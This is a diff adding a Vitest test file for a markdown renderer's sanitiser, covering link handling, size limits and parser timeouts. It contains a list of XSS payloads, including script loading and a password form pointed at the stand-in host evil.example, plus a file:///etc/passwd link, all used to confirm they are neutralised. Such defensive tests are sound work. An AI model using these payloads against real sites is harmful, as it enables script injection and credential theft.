@@ -1,0 +1,128 @@
+import { JSDOM } from 'jsdom'
+import { afterAll, expect, test } from 'vitest'
+import { markdownLimit, openMarkdown } from './markdown.server.ts'
+
+const markdown = openMarkdown(20_000)
+afterAll(() => markdown.close())
+
+const drawn = async (text: string) => new JSDOM(await markdown.render(text)).window.document
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
+  '<a href="javascript:alert(1)">here</a>',
+  '[here](javascript:alert(1))',
+  '[here](JaVaScRiPt:alert(1))',
+  '[here](java\tscript:alert(1))',
+  '[here](&#106;avascript:alert(1))',
+  '[here](vbscript:msgbox(1))',
+  '[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '<javascript:alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x](https://evil.example/pixel.gif)',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<p style="background:url(https://evil.example)">x</p>',
+  '<style>body{display:none}</style>',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<b onmouseover=alert(1)>x</b>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<p id="main" name="location" class="notice">x</p>',
+  '`<script>`<script>alert(1)</script>',
+  '```html"><script>alert(1)</script>\nx\n```',
+  '<!--><script>alert(1)</script>-->',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'x<x onclick=alert(1)>',
+]
+
+const allowed = {
+  a: ['href', 'rel'],
+  ol: ['start'],
+  th: ['align', 'scope'],
+  td: ['align'],
+} as Record<string, string[]>
+const harmless = new Set(
+  'p br hr strong em del code pre blockquote ul ol li a h3 h4 h5 h6 table thead tbody tr th td'.split(' '),
+)
+
+test.each(attacks)('nothing that acts survives of %j', async (attack) => {
+  const { body } = await drawn(`before\n\n${attack}\n\nafter`)
+  for (const element of body.querySelectorAll('*')) {
+    const name = element.localName
+    expect(harmless).toContain(name)
+    expect(allowed[name] ?? []).toEqual(expect.arrayContaining(element.getAttributeNames()))
+    expect(element.getAttribute('href') ?? '#').toMatch(/^(https?:|mailto:|\/(?!\/)|#)/)
+  }
+  expect(body.textContent).toContain('before')
+})
+
+test('text is what it was: headings below those of the page, lists, tables, emphasis, line breaks', async () => {
+  const { body } = await drawn(
+    '# 見出し\n\n一行目\n二行目\n\n- **太字**\n\n| 窓口 | 結果 |\n|---|---|\n| 市 | 可 |',
+  )
+  expect(body.querySelector('h3')?.textContent).toBe('見出し')
+  expect(body.querySelector('h1, h2')).toBeNull()
+  expect(body.querySelector('p')?.innerHTML).toBe('一行目<br>二行目')
+  expect(body.querySelector('li strong')?.textContent).toBe('太字')
+  expect([...body.querySelectorAll('td')].map((cell) => cell.textContent)).toEqual(['市', '可'])
+})
+
+test.each([
+  ['[国の窓口](https://www.example.go.jp/a?b=1)', 'https://www.example.go.jp/a?b=1'],
+  ['[事例](/cases/1)', '/cases/1'],
+  ['<https://www.example.go.jp>', 'https://www.example.go.jp'],
+  ['https://www.example.go.jp', 'https://www.example.go.jp'],
+  ['[mail](mailto:office@test.example)', 'mailto:office@test.example'],
+  ['[below](#below)', '#below'],
+  ['[elsewhere](//evil.example)', null],
+  ['[file](file:///etc/passwd)', null],
+])('the link %s leads to %s', async (text, target) => {
+  const link = (await drawn(text)).querySelector('a')
+  expect(link?.getAttribute('href') ?? null).toBe(target)
+  expect(link?.getAttribute('rel')).toBe('nofollow noopener noreferrer')
+})
+
+test('an empty text is empty, and one beyond the limit is refused before it is parsed', async () => {
+  expect(await markdown.render(' \n ')).toBe('')
+  await expect(markdown.render('あ'.repeat(markdownLimit + 1))).rejects.toMatchObject({ code: 'too-large' })
+  expect(await markdown.render('あ'.repeat(markdownLimit))).toContain('あ')
+})
+
+test('a text that stalls the parser is given up, and those who waited behind it are rendered', async () => {
+  const impatient = openMarkdown(2000)
+  try {
+    const start = performance.now()
+    const stalled = impatient.render('_a'.repeat(markdownLimit / 2))
+    const next = impatient.render('*next*')
+    await expect(stalled).rejects.toMatchObject({
+      code: 'invalid',
+      said: { en: expect.stringContaining('too complex') as string },
+    })
+    expect(await next).toContain('<em>next</em>')
+    expect(performance.now() - start).toBeLessThan(20_000)
+  } finally {
+    await impatient.close()
+  }
+})
+
+test('a text is not too complex because the worker had to start first', async () => {
+  const impatient = openMarkdown(100)
+  try {
+    expect(await impatient.render('*first*')).toContain('<em>first</em>')
+  } finally {
+    await impatient.close()
+  }
+})
